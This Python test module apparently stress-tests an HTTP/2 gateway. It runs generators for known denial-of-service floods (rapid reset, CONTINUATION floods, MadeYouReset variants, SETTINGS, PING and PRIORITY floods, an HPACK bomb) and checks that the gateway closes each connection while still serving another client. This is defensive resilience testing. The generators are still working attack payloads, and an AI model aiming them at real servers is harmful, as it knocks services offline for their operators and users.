"""Attacks on HTTP/2: each ends in a closed connection, flat memory, and another client that was served meanwhile."""

from __future__ import annotations

import itertools
import json
import urllib.request
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass

from hpack import Encoder

from processes import (
    Address,
    Weir,
    gateway_config,
    stopped_after,
    url,
    weir_echo,
)

from .bystander import Bystander
from .frames import (
    INITIAL_WINDOW_SIZE,
    Attacker,
    Flood,
    Head,
    continuation,
    data,
    headers,
    ping,
    raw,
    reset,
    settings,
    window_update,
)
from .report import Report

# Streams that are begun and cancelled together: fewer than a connection may have at once.
BATCH = 40
GET, POST = Head(), Head("POST")


@dataclass(frozen=True)
class Attack:
    """A flood, and how a gateway may take it."""

    name: str
    steps: Callable[[], Iterable[bytes]]
    paced: bool = False
    """Each step ends in a PING, whose answer says that the gateway has dealt with it."""
    reads: bool = True
    """Whether the attacker reads what the gateway answers."""
    may_block: bool = False
    """The gateway may stop reading instead of hanging up: nothing is gained from either."""
    may_stay: bool = False
    """The gateway may bear it, as long as memory is flat."""


def streams() -> Iterator[int]:
    """The ids of a client's streams (RFC 9113 §5.1.1)."""
    return itertools.count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: requests that are cancelled at once never count as concurrent."""
    for stream in streams():
        yield headers(stream, GET.block) + reset(stream)


def paced_reset() -> Iterator[bytes]:
    """The same, but each request is on its way to the upstream before it is cancelled."""
    for first in itertools.count(1, 2 * BATCH):
        batch = range(first, first + 2 * BATCH, 2)
        yield b"".join(headers(stream, GET.block) for stream in batch) + ping()
        yield b"".join(map(reset, batch)) + ping()


def rapid_reset_of_uploads() -> Iterator[bytes]:
    """The same with a body begun, so that the upstream is waiting for more."""
    for stream in streams():
        yield headers(stream, POST.block, end_stream=False) + data(stream, b"x") + reset(stream)


def continuation_flood() -> Iterator[bytes]:
    """CVE-2024-27316 and kin: a header block that never ends."""
    yield headers(1, GET.block, end_headers=False)
    field = b"\0\x03x-a\x01b"
    yield from itertools.repeat(continuation(1, field * 8))


def empty_continuation_flood() -> Iterator[bytes]:
    """The same without a byte of it."""
    yield headers(1, GET.block, end_headers=False)
    yield from itertools.repeat(continuation(1, b""))


def empty_data_flood() -> Iterator[bytes]:
    """CVE-2019-9518: frames that flow control does not count."""
    yield headers(1, POST.block, end_stream=False)
    yield from itertools.repeat(data(1))


def padded_data_flood() -> Iterator[bytes]:
    """DATA that is padding only."""
    yield headers(1, POST.block, end_stream=False)
    yield from itertools.repeat(raw(0, 1, b"\x00", flags=0x8))


def zero_window_update() -> Iterator[bytes]:
    """CVE-2025-8671, MadeYouReset: the gateway itself is made to reset (RFC 9113 §6.9: a stream error)."""
    for stream in streams():
        yield headers(stream, POST.block, end_stream=False) + window_update(stream, 0)


def window_overflow() -> Iterator[bytes]:
    """MadeYouReset by a window above 2^31-1 (RFC 9113 §6.9.1)."""
    for stream in streams():
        yield headers(stream, POST.block, end_stream=False) + window_update(stream, 2**31 - 1)


def data_after_end() -> Iterator[bytes]:
    """MadeYouReset by DATA on a half-closed stream (RFC 9113 §5.1: STREAM_CLOSED)."""
    for stream in streams():
        yield headers(stream, GET.block) + data(stream, b"x")


def self_dependency() -> Iterator[bytes]:
    """MadeYouReset by a PRIORITY frame of the wrong length (RFC 9113 §6.3: a stream error)."""
    for stream in streams():
        yield headers(stream, POST.block, end_stream=False) + raw(2, stream, b"\0\0\0\0")


def wrong_content_length() -> Iterator[bytes]:
    """MadeYouReset by a body longer than announced (RFC 9113 §8.1.1: malformed)."""
    block = Head("POST", "/", ("content-length", "1")).block
    for stream in streams():
        yield headers(stream, block, end_stream=False) + data(stream, b"xx")


def settings_flood() -> Iterator[bytes]:
    """CVE-2019-9515: each has to be acknowledged."""
    return itertools.repeat(settings())


def settings_churn() -> Iterator[bytes]:
    """Settings that change the window of every stream each time."""
    yield b"".join(headers(stream, POST.block, end_stream=False) for stream in range(1, 160, 2))
    for size in itertools.cycle((0, 65_535)):
        yield settings({INITIAL_WINDOW_SIZE: size})


def ping_flood() -> Iterator[bytes]:
    """CVE-2019-9512."""
    return (ping(number) for number in itertools.count())


def window_update_flood() -> Iterator[bytes]:
    """Frames that ask for nothing."""
    return itertools.repeat(window_update(0, 1))


def priority_flood() -> Iterator[bytes]:
    """CVE-2019-9513: a tree of priorities that nobody needs (RFC 9113 §5.3.2)."""
    for stream in itertools.cycle(range(1, 2000, 2)):
        yield raw(2, stream, b"\0\0\0\0\x10")


def unknown_frames() -> Iterator[bytes]:
    """Frames of a type that has to be ignored (RFC 9113 §5.5)."""
    return itertools.repeat(raw(0xFA, 0, b"x" * 16))


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2016-6581: one byte of the block is a field of 4,000 (SETTINGS_MAX_HEADER_LIST_SIZE, RFC 9113 §10.5.1)."""
    encoder = Encoder()
    first = encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a"), ("x", "y" * 4000)]
    )
    yield headers(1, first)
    # Index 62 is the newest entry of the dynamic table (RFC 7541 §2.3.3).
    bomb = GET.block + b"\xbe" * 16_000
    for stream in itertools.count(3, 2):
        yield headers(stream, bomb)


def empty_headers() -> Iterator[bytes]:
    """Trailers on and on: HEADERS without END_STREAM on an open stream is malformed (RFC 9113 §8.1)."""
    for stream in streams():
        yield headers(stream, POST.block, end_stream=False) + headers(stream, b"", end_stream=False)


ATTACKS = [
    Attack("rapid reset", rapid_reset),
    Attack("rapid reset of uploads", rapid_reset_of_uploads),
    Attack("rapid reset of forwarded requests", paced_reset, paced=True),
    Attack("CONTINUATION flood", continuation_flood),
    Attack("empty CONTINUATION flood", empty_continuation_flood),
    Attack("empty DATA flood", empty_data_flood),
    Attack("padded DATA flood", padded_data_flood),
    Attack("MadeYouReset by WINDOW_UPDATE of 0", zero_window_update),
    Attack("MadeYouReset by a window too large", window_overflow),
    Attack("MadeYouReset by DATA after the end", data_after_end),
    Attack("MadeYouReset by a short PRIORITY", self_dependency),
    Attack("MadeYouReset by a body too long", wrong_content_length),
    Attack("MadeYouReset by empty trailers", empty_headers),
    Attack("SETTINGS flood", settings_flood),
    Attack("SETTINGS flood, unread", settings_flood, reads=False, may_block=True),
    Attack("SETTINGS that move every window", settings_churn),
    Attack("PING flood", ping_flood),
    Attack("PING flood, unread", ping_flood, reads=False, may_block=True),
    Attack("WINDOW_UPDATE flood", window_update_flood),
    Attack("PRIORITY flood", priority_flood),
    Attack("flood of unknown frames", unknown_frames),
    Attack("HPACK bomb", hpack_bomb, may_stay=True),
]


def run(report: Report, *, quick: bool) -> None:
    # An upstream that takes its time: a request that was reset is still with it.
    echo, upstream = weir_echo("100ms")
    scale = Scale(steps=20_000, seconds=4.0, connections=3) if quick else Scale(100_000, 15.0, 20)
    with stopped_after(echo):
        for attack in ATTACKS:
            with Weir(gateway_config(upstream)) as weir:
                launch(report, attack, weir, upstream, scale)


@dataclass(frozen=True)
class Scale:
    """How much of an attack there is."""

    steps: int
    seconds: float
    connections: int
    """One after the other: who is thrown out comes again."""


def launch(report: Report, attack: Attack, weir: Weir, upstream: Address, scale: Scale) -> None:
    """One attack, by connections one after the other until one is not closed."""
    before = upstream_requests(upstream)
    outcomes = list[Flood]()
    with Bystander(weir) as bystander:
        while len(outcomes) < scale.connections and all(outcome.closed for outcome in outcomes):
            with Attacker(weir.address, reads=attack.reads) as attacker:
                steps = itertools.islice(attack.steps(), scale.steps)
                outcomes.append(attacker.flood(steps, scale.seconds, paced=attack.paced))
    work = upstream_requests(upstream) - before - bystander.served
    last = outcomes[-1]
    is_bounded = last.closed or (attack.may_block and last.blocked) or attack.may_stay
    detail = f"{len(outcomes)} connections, the last {last}; {work} requests upstream"
    report.check(f"{attack.name}: the connection is closed", is_bounded, detail)
    bystander.judge(report, attack.name)


def upstream_requests(upstream: Address) -> int:
    with urllib.request.urlopen(f"{url(upstream)}/_echo/count", timeout=10) as response:
        return int(json.load(response)["requests"])
